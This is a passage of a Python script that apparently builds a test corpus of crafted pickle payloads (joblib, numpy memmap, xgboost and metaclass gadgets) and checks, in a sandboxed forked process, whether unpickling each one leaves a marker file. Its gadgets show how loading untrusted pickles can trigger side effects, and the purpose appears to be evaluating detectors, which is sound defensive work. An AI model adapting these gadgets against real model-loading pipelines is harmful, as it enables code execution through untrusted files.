    yield 'joblib-wrapper-called', proto(2) + reduce(glob('joblib.numpy_pickle', 'NumpyArrayWrapper'), b'N', b'N', b'N', b'N') + b'.'
    yield 'joblib-class-changed', proto(2) + glob('types', 'SimpleNamespace') + b')\x81N}' + value('__class__') + glob('joblib.numpy_pickle', 'NumpyArrayWrapper') + b's\x86b.'
    yield 'joblib-old-wrapper', proto(2) + glob('joblib.numpy_pickle_compat', 'NDArrayWrapper') + b')\x81}' + value('filename') + value('x.npy') + b'sb.'
    yield 'joblib-old-zipped', proto(2) + glob('joblib.numpy_pickle_compat', 'ZNDArrayWrapper') + b')\x81.'
    yield 'joblib-cut-off', array(dtype('u1', 0), (64,)) + b'\x00' * 10
    yield 'joblib-object-array-cut-off', array(dtype('O8', 63)) + RUN
    yield 'booster-from-file', proto(2) + reduce(glob('xgboost.core', 'Booster'), b'N', b')', value('model.json')) + b'.'
    yield 'numpy-memmap', proto(2) + glob('numpy', 'memmap') + b'(' + value(MARKER) + value('uint8') + value('w+') + value(0) + value((1,)) + b't\x81.'
    yield 'metaclass', proto(2) + glob('abc', 'ABCMeta') + b'(' + value('T') + b')}t\x81.'


GROUPS = [forms, stack_tricks, encodings, python_2, indirection, nested, gadgets, states]


def loads(data, joblib_too, patience=0.2):
    """Whether loading the bytes, in a process of its own, leaves the marker; its own processes may need some seconds more."""
    folder = tempfile.mkdtemp()
    child = os.fork()
    if child == 0:
        os.setsid()
        os.chdir(folder)
        null = os.open(os.devnull, os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        sys.path[:] = [path for path in sys.path if path]
        import signal
        signal.alarm(10)
        with open('file', 'wb') as file:
            file.write(data)
        try:
            with open('file', 'rb') as file:
                while True:
                    pickle.load(file)
                    if not file.peek(1):
                        break
        except BaseException:
            pass
        try:
            if joblib_too and not os.path.exists(MARKER):
                import joblib
                joblib.load('file')
        except BaseException:
            pass
        os._exit(0)
    os.waitpid(child, 0)
    end = time.monotonic() + patience
    while not (found := os.path.exists(os.path.join(folder, MARKER))) and time.monotonic() < end:
        time.sleep(0.02)
    shutil.rmtree(folder, ignore_errors=True)
    return found


def main(arguments):
    if arguments[0] == '--check':
        corpus = json.load(open(arguments[1]))
        for entry in corpus['pickles']:
            if entry['runs'] and not entry['packages'] and not loads(base64.b64decode(entry['bytes']), False, 10):
                if importable(entry['name'].split('/', 1)[1]):
                    print(entry['name'])
        return
    entries = []
    for group in GROUPS:
        for name, data in group():
            plain = loads(data, False)
            entries.append({
                'name': f'{group.__name__.replace("_", "-")}/{name}',
                'runs': plain or loads(data, True),
                'packages': not (plain and isolated(data)),
                'bytes': base64.b64encode(data).decode(),
            })
    version = '.'.join(map(str, sys.version_info[:2]))
    with open(arguments[0], 'w') as file:
        json.dump({'python': version, 'pickles': entries}, file, indent=2)
        file.write('\n')
    print(len(entries), 'pickles,', sum(entry['runs'] for entry in entries), 'run')


def importable(label):
    """Whether this Python has the module of a `module.name`: some are packed without tkinter and the like."""
    import subprocess
    module = label.rsplit('.', 1)[0]
    program = 'import importlib, sys\ntry: importlib.import_module(sys.argv[1])\nexcept ImportError as e: sys.exit(e.name != sys.argv[1] and 7 or 0)'
    return subprocess.run([sys.executable, '-I', '-c', program, module], stderr=subprocess.DEVNULL, check=False).returncode != 7


def isolated(data):
    """Whether it runs without any package beyond Python's own."""
    import subprocess
    with tempfile.TemporaryDirectory() as folder:
        with open(os.path.join(folder, 'file'), 'wb') as file:
            file.write(data)
        code = "import pickle, signal; signal.alarm(10); f = open('file', 'rb')\nwhile 1: pickle.load(f)"
        subprocess.run([sys.executable, '-I', '-S', '-c', code], cwd=folder, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL, timeout=30, check=False)
        return os.path.exists(os.path.join(folder, MARKER))


main(sys.argv[1:])
